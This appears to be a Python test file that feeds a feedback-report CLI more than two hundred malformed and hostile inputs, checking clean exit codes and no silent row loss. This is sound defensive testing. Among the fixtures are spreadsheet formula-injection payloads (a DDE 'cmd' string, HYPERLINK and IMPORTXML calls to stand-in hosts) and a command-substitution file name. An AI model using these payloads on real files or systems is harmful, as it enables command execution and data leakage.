"""A corpus of malformed inputs through the command cron runs.

Every case is a folder holding one hostile or broken export. Each must end with
exit code 2 (the message names the file) or 3 (no data for the month) and a
one-paragraph message, or succeed with every row accounted for (rows read =
rows kept + rows quarantined, and the planted bad rows quarantined). Never a
traceback, never exit code 1, never a silent loss.

Most cases go through ``feedback-report run --dry-run`` in-process (it reads and
cleans exactly as the notebook does); a few go through a full render in
tests/test_faults.py and tests/test_security.py.
"""

from __future__ import annotations

import csv
import io
import json
import random
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from feedbacklib.cli import main

from .conftest import CONFIG, SAMPLE

HEADER = ["response_id", "received_at", "team", "channel", "csat", "text"]
MONTH = "2026-10"


@dataclass
class Case:
    id: str
    files: dict[str, bytes]
    codes: tuple[int, ...] = (0, 2, 3)
    rows: int | None = None          # data rows written, when the file is well-formed CSV
    bad: int = 0                     # rows that must be quarantined
    category: str = ""
    extra: dict = field(default_factory=dict)


def _csv(rows: list[list[object]], header: list[str] = HEADER, *, delimiter: str = ",") -> str:
    buf = io.StringIO()
    writer = csv.writer(buf, delimiter=delimiter, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buf.getvalue()


def _good_rows(n: int, *, start: int = 0) -> list[list[object]]:
    return [[f"r{start + i}", f"2026-10-{1 + i % 28:02d}T10:{i % 60:02d}:00Z", "Northwind Manila", "web",
             1 + i % 5, f"comment number {start + i}: the agent was helpful"] for i in range(n)]


def _cases() -> list[Case]:
    rnd = random.Random(20261)
    cases: list[Case] = []
    base = _csv(_good_rows(20)).encode("utf-8")
    # small excerpts of the sample exports keep the corpus fast
    qual_lines = (SAMPLE / "qualtrics_post_contact_survey_2026-10.csv").read_bytes().split(b"\n")
    zendesk = json.loads((SAMPLE / "zendesk_tickets_2026-10.json").read_text(encoding="utf-8"))
    zendesk["tickets"] = zendesk["tickets"][:25]
    samples = {
        "qualtrics.csv": b"\n".join(qual_lines[:40]) + b"\n",
        "zendesk.json": json.dumps(zendesk).encode(),
        "complaints.xlsx": (SAMPLE / "complaints_register_2026-10.xlsx").read_bytes(),
        "generic.csv": base,
    }

    # 1. truncated files: every sample cut at 12 points
    for name, data in samples.items():
        for k, frac in enumerate([0.001, 0.01, 0.05, 0.1, 0.25, 0.33, 0.5, 0.66, 0.75, 0.9, 0.99]):
            cases.append(Case(f"truncated-{name}-{k}", {name: data[: max(1, int(len(data) * frac))]},
                              category="truncated"))

    # 2. wrong encodings
    text = _csv(_good_rows(12) + [["r-enc", "2026-10-05T10:00:00Z", "Northwind Manila", "web", 4,
                                   "Très bien, café, naïve, Straße, 東京, emoji 😀"]])
    for enc in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "latin-1", "cp1252", "shift_jis", "euc-kr",
                "utf-8-sig", "cp437", "mac_roman", "utf-7", "koi8-r", "big5"):
        data = text.encode(enc, errors="replace")
        cases.append(Case(f"encoding-{enc}", {f"enc_{enc}.csv": data}, category="encoding"))
    cases.append(Case("encoding-mixed", {"mixed.csv": base + "r99,2026-10-03,X,web,3,caf\xe9 ok\n".encode("latin-1")},
                      category="encoding"))
    qual = samples["qualtrics.csv"].decode("utf-8-sig")
    for enc in ("utf-16", "latin-1", "utf-16-le"):
        cases.append(Case(f"encoding-qualtrics-{enc}", {"qualtrics.csv": qual.encode(enc, errors="replace")},
                          category="encoding"))

    # 3. binary junk under every export suffix
    junks = {
        "random": bytes(rnd.randrange(256) for _ in range(4096)),
        "zeros": b"\x00" * 2048,
        "zip-header": b"PK\x03\x04" + bytes(rnd.randrange(256) for _ in range(500)),
        "parquet-magic": b"PAR1" + bytes(rnd.randrange(256) for _ in range(200)) + b"PAR1",
        "png": b"\x89PNG\r\n\x1a\n" + bytes(rnd.randrange(256) for _ in range(300)),
        "gzip": b"\x1f\x8b\x08\x00" + bytes(rnd.randrange(256) for _ in range(300)),
        "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n",
        "elf": b"\x7fELF\x02\x01\x01" + b"\x00" * 200,
        "nul-in-csv": base[:200] + b"\x00\x00\x00" + base[200:],
        "bom-only": b"\xef\xbb\xbf",
        "utf16-bom-only": b"\xff\xfe",
    }
    for jname, data in junks.items():
        for suffix in (".csv", ".json", ".xlsx", ".tsv"):
            cases.append(Case(f"junk-{jname}{suffix}", {f"junk{suffix}": data}, category="binary junk"))

    # 4. empty files and headers only
    empties = {
        "empty.csv": b"", "blank.csv": b"\n\n\n", "spaces.csv": b"   \n  \n",
        "header-only.csv": ",".join(HEADER).encode() + b"\n",
        "header-only-nonl.csv": ",".join(HEADER).encode(),
        "qualtrics-headers-only.csv": "\n".join(qual.splitlines()[:3]).encode() + b"\n",
        "empty.json": b"", "empty-list.json": b"[]", "empty-object.json": b"{}",
        "zendesk-no-tickets.json": b'{"tickets": [], "count": 0}', "null.json": b"null",
        "number.json": b"42", "string.json": b'"text"', "list-of-ints.json": b"[1, 2, 3]",
        "empty.tsv": b"", "header-only.tsv": "\t".join(HEADER).encode() + b"\n",
    }
    for name, data in empties.items():
        cases.append(Case(f"empty-{name}", {name: data}, codes=(2, 3), category="empty / headers only"))

    # 5. absurd shapes: a million-column line, deep nesting, huge cells, ragged rows
    cases.append(Case("million-column-header", {"wide.csv": ("text," + ",".join(["c"] * 1_000_000) + "\nhello,1\n").encode()},
                      codes=(2,), category="million columns"))
    cases.append(Case("million-field-row", {"wide.csv": ("text,csat,received_at\n" + "x," * 1_000_000 + "\n").encode()},
                      codes=(2,), category="million columns"))
    cases.append(Case("deep-json-list", {"deep.json": b"[" * 200_000 + b"]" * 200_000}, codes=(2,),
                      category="absurd shape"))
    cases.append(Case("deep-json-object", {"deep.json": b'{"a":' * 100_000 + b"1" + b"}" * 100_000}, codes=(2,),
                      category="absurd shape"))
    cases.append(Case("huge-cell", {"huge.csv": _csv(_good_rows(3) + [["big", "2026-10-02", "X", "web", 3, "word " * 400_000]]).encode()},
                      rows=4, category="absurd shape"))
    cases.append(Case("ragged-more-fields", {"ragged.csv": base + b"r98,2026-10-02,X,web,3,text,extra,extra\n"},
                      category="absurd shape"))
    cases.append(Case("ragged-fewer-fields", {"ragged.csv": base + b"r97,2026-10-02\n"}, category="absurd shape"))
    cases.append(Case("unbalanced-quote", {"quote.csv": base + b'r96,2026-10-02,X,web,3,"never closed\n'},
                      category="absurd shape"))
    cases.append(Case("cr-only-newlines", {"cr.csv": base.replace(b"\n", b"\r")}, category="absurd shape"))
    cases.append(Case("crlf-newlines", {"crlf.csv": base.replace(b"\n", b"\r\n")}, rows=20, category="absurd shape"))
    cases.append(Case("semicolon-delimiter", {"semi.csv": _csv(_good_rows(10), delimiter=";").encode()}, rows=10,
                      category="absurd shape"))
    cases.append(Case("json-not-records", {"x.json": b'{"a": [1, 2], "b": {"c": 3}}'}, codes=(2, 3),
                      category="absurd shape"))
    cases.append(Case("json-invalid", {"x.json": b'[{"text": "a",}]'}, codes=(2,), category="absurd shape"))

    # 6. formula cells (spreadsheet injection) in every column: read, kept or quarantined, never lost
    formulas = ["=1+1", "=cmd|' /C calc'!A0", "+SUM(A1:A9)", "-2+3", "@SUM(1)", "\t=1", "\r=1",
                "=HYPERLINK(\"http://evil.example\",\"x\")", "=IMPORTXML(CONCAT(\"http://x\",A1),\"//a\")", "==", ]
    for k, f in enumerate(formulas):
        rows = _good_rows(10)
        rows[k % 10][5] = f
        rows[(k + 1) % 10][2] = f
        rows[(k + 2) % 10][0] = f
        rows[(k + 3) % 10][4] = f  # csat -> "not a number": quarantined
        # an unquoted carriage return inside a field is a broken CSV: a clear error is right too
        cases.append(Case(f"formula-{k}", {"formulas.csv": _csv(rows).encode()}, codes=(0, 2) if "\r" in f else (0,),
                          rows=10,
                          bad=1, category="formula cells"))

    # 7. duplicate headers
    dups = [
        ["response_id", "received_at", "team", "channel", "csat", "text", "text"],
        ["response_id", "received_at", "team", "channel", "csat", "csat", "text"],
        ["text", "text", "text", "received_at", "csat", "team"],
        ["response_id", "response_id", "received_at", "team", "channel", "csat", "text"],
        ["", "", "received_at", "team", "channel", "csat", "text"],
        ["Text", "TEXT", "received_at", "team", "channel", "csat", "text"],
    ]
    for k, header in enumerate(dups):
        rows = [[f"v{i}-{j}" if h in ("text", "Text", "TEXT", "") else
                 {"response_id": f"id{i}-{j}", "received_at": f"2026-10-{1 + i:02d}", "team": "Northwind Manila",
                  "channel": "web", "csat": 1 + i % 5}[h]
                 for j, h in enumerate(header)] for i in range(15)]
        cases.append(Case(f"duplicate-header-{k}", {"dups.csv": _csv(rows, header).encode()}, codes=(0, 2), rows=15,
                          category="duplicate headers"))

    # 8. dates in the future, in 1900, and nonsense; each file also holds good October rows
    dates = ["1900-01-01", "1899-12-31", "0001-01-01", "1969-12-31T23:59:59Z", "9999-12-31", "2201-01-01",
             "2099-06-01", "31/02/2026", "2026-13-01", "2026-10-32", "yesterday", "1", "-1", "1e308", "NaN",
             "2026-10-05T25:00:00Z", "00/00/0000", "\u0662\u0660\u0662\u0666-10-01", "2026-10-05 10:00 +99:00"]
    for k, d in enumerate(dates):
        rows = _good_rows(10)
        rows.append(["bad-date", d, "Northwind Manila", "web", 3, "date test"])
        cases.append(Case(f"date-{k}", {"dates.csv": _csv(rows).encode()}, codes=(0,), rows=11, category="dates",
                          extra={"date": d}))

    # 9. ratings out of range or not numbers
    ratings = ["0", "6", "-1", "99", "1e9", "five", "3.5.1", "NaN", "inf", "-inf", "1,5", "٣", "10", "5 stars",
               "0x3", "True", "[]", "  7  ", "2147483648", "-2147483649"]
    for k, r in enumerate(ratings):
        rows = _good_rows(10)
        rows.append(["bad-rating", "2026-10-07", "Northwind Manila", "web", r, "rating test"])
        cases.append(Case(f"rating-{k}", {"ratings.csv": _csv(rows).encode()}, codes=(0,), rows=11,
                          category="ratings", extra={"rating": r}))
    for k, nps in enumerate(["11", "-1", "100", "ten"]):
        rows = _good_rows(10)
        header = HEADER + ["nps"]
        rows = [r + [5] for r in rows] + [["bad-nps", "2026-10-07", "Northwind Manila", "web", 3, "nps test", nps]]
        cases.append(Case(f"nps-{k}", {"nps.csv": _csv(rows, header).encode()}, codes=(0,), rows=11, bad=1,
                          category="ratings"))

    # 10. empty month: only September rows, October asked
    for k in range(6):
        rows = [[f"s{i}", f"2026-09-{1 + i:02d}", "Northwind Manila", "web", 3, "september"] for i in range(5 + k)]
        cases.append(Case(f"empty-month-{k}", {"sept.csv": _csv(rows).encode()}, codes=(3,), rows=5 + k,
                          category="empty month"))

    # 11. hostile file names (newlines, ANSI escapes, quotes, HTML) on an otherwise good export
    for k, name in enumerate(["evil\nname.csv", "ansi\x1b[31mred\x1b[0m.csv", "quote'\"name.csv", "<b onclick=x>bold<b>.csv",
                              "tab\tname.csv", "spaces  name .csv", "üñíçødé.csv", "$(touch pwned).csv"]):
        cases.append(Case(f"filename-{k}", {name: base}, codes=(0,), rows=20, category="hostile file names"))

    # 12. valid exports that used to lose rows silently (issue 16.2): every record read
    import codecs as _codecs

    import pandas as _pd

    from . import io_builders as B

    for k, where in enumerate([0, 1, 9, 19]):
        rows = _good_rows(20)
        rows[where][5] = "pasted from an old form\rsecond line"
        cases.append(Case(f"bare-cr-{k}", {"cr.csv": _pd.DataFrame(rows, columns=HEADER).to_csv(index=False).encode()},
                          codes=(0,), rows=20, category="silent row loss"))
    for k, where in enumerate([1, 9, 10, 19]):
        lines = _csv(_good_rows(20)).splitlines(keepends=True)
        lines[where] = lines[where].replace("the agent", 'the 27" monitor agent')
        cases.append(Case(f"stray-quote-{k}", {"quote.csv": "".join(lines).encode()}, codes=(0,), rows=20,
                          category="silent row loss"))
    for k, enc in enumerate(["utf-16-le", "utf-16-be"]):
        bom = _codecs.BOM_UTF16_LE if enc == "utf-16-le" else _codecs.BOM_UTF16_BE
        tickets = B.zendesk_tickets(5)
        cases.append(Case(f"utf16-zendesk-{k}", {"tickets.json": bom + json.dumps(tickets).encode(enc)},
                          codes=(0,), rows=5, category="silent row loss"))
    workbook = B.xlsx([HEADER] + _good_rows(12))
    cases.append(Case("xlsm-register", {"register.xlsm": workbook}, codes=(0,), rows=12, category="silent row loss"))
    cases.append(Case("no-suffix", {"october_export": base}, codes=(0,), rows=20, category="silent row loss"))
    cases.append(Case("stray-notes-file", {"generic.csv": base, "notes.csv": b"meeting,owner\nbuy milk,ann\n"},
                      codes=(0,), rows=20, category="silent row loss"))
    cells = {(r + 1, c + 1): v for r, row in enumerate([HEADER] + _good_rows(11)) for c, v in enumerate(row)}
    cells[(100_000, 6)] = "typed far below the data"
    cases.append(Case("xlsx-value-at-row-100000", {"register.xlsx": B.xlsx(cells)}, codes=(0,), rows=12, bad=1,
                      category="silent row loss"))

    # 13. impossible dates are quarantined, never moved to the next month (issue 16.3)
    for k, bad_date in enumerate(["31/02/2026", "31/09/2026 10:00", "2026-09-31 10:00:00", "30/02/2026",
                                  "2026-02-29", "31/11/2026", "2026-04-31T10:00:00"]):
        rows = _good_rows(10) + [["bad-date", bad_date, "Northwind Manila", "web", 3, "impossible date"]]
        cases.append(Case(f"impossible-date-{k}", {"dates.csv": _csv(rows).encode()}, codes=(0,), rows=11, bad=1,
                          category="impossible dates", extra={"impossible": bad_date}))

    # 14. workbooks that would expand beyond any export (issue 16.5): refused, exit 2
    stray = {(r + 1, c + 1): v for r, row in enumerate([HEADER] + _good_rows(3)) for c, v in enumerate(row)}
    stray[(1_048_576, 16_384)] = "x"
    cases.append(Case("xlsx-stray-cell-xfd1048576", {"stray.xlsx": B.xlsx(stray)}, codes=(2,),
                      category="oversized workbooks"))
    return cases


CASES = _cases()
OUTCOMES: dict[str, list[int]] = {}


def _write(folder: Path, case: Case) -> Path:
    folder.mkdir()
    for name, data in case.files.items():
        (folder / name).write_bytes(data)
    return folder


def test_the_corpus_is_big_enough():
    assert len(CASES) >= 200, len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
def test_bad_input_ends_cleanly(case, tmp_path, capsys, monkeypatch, salt_env):
    import feedbacklib.runner

    folder = _write(tmp_path / "in", case)
    seen = []  # the dry run's own cleaning result, checked below (no second read)
    original = feedbacklib.runner.clean_responses
    monkeypatch.setattr(feedbacklib.runner, "clean_responses",
                        lambda *a, **k: seen.append(original(*a, **k)) or seen[-1])
    code = main(["run", "--dry-run", "--month", MONTH, "--input", str(folder), "--config", str(CONFIG),
                 "--output", str(tmp_path / "out")])
    out, err = capsys.readouterr()
    OUTCOMES.setdefault(case.category, []).append(code)
    assert code in case.codes, (code, err or out)
    assert "Traceback" not in err and "Traceback" not in out
    assert not (tmp_path / "out").exists(), "a dry run writes nothing"
    if code != 0:
        # warnings (a skipped file, named) may come first; the error is the last line
        message = "\n".join(line for line in err.strip().splitlines() if not line.startswith("WARNING: input:"))
        assert message.startswith("feedback-report: error:"), message
        assert "\n\n" not in message and len(message) < 2500, message
        assert "\x1b" not in message
        if code == 2:  # the message names the file
            (name,) = case.files
            shown = name.encode("unicode_escape").decode() if not name.isprintable() else name
            assert name in message or shown in message or repr(name)[1:-1] in message, message
        return
    assert len(seen) == 1
    _assert_no_silent_loss(seen[0], case)


def _assert_no_silent_loss(result, case: Case) -> None:
    q = result.quality
    assert (q["rows_read"] == q["rows_kept"] + q["rows_quarantined"]).all()
    assert int(q["rows_read"].sum()) == len(result.frame) + len(result.quarantine)
    if case.rows is not None:
        assert int(q["rows_read"].sum()) == case.rows, "rows read differ from the rows written"
    if case.bad:
        assert len(result.quarantine) >= case.bad
    if "rating" in case.extra:
        r = case.extra["rating"].strip()
        valid = r in {"1", "2", "3", "4", "5"}
        quarantined = _quarantined(result, "bad-rating")
        kept = result.frame.loc[result.frame["response_id"] == "bad-rating", "csat"]
        assert quarantined or (len(kept) == 1 and (kept.isna().all() or valid or 1 <= int(kept.iloc[0]) <= 5)), r
    if "impossible" in case.extra:
        assert _quarantined(result, "bad-date"), case.extra["impossible"]
    if "date" in case.extra:
        # never lost: quarantined, or kept with a plausible date in its own month
        kept = result.frame.loc[result.frame["response_id"] == "bad-date", "received_at"]
        assert _quarantined(result, "bad-date") or (len(kept) == 1 and 1970 <= kept.iloc[0].year < 2200), case.extra["date"]


def _quarantined(result, response_id: str) -> bool:
    originals = result.quarantine["original"].astype(str)
    return bool(originals.str.contains(f'"response_id": "{response_id}"', regex=False).any())


def test_zz_outcome_summary(capsys):
    """Prints the outcomes per category (for the report); runs after the corpus."""
    if not OUTCOMES:
        pytest.skip("run with the corpus")
    with capsys.disabled():
        total = sum(len(v) for v in OUTCOMES.values())
        print(f"\nbad-input corpus: {total} cases")
        for cat, codes in sorted(OUTCOMES.items()):
            counts = {c: codes.count(c) for c in sorted(set(codes))}
            print(f"  {cat}: {len(codes)} cases, exit codes {counts}")
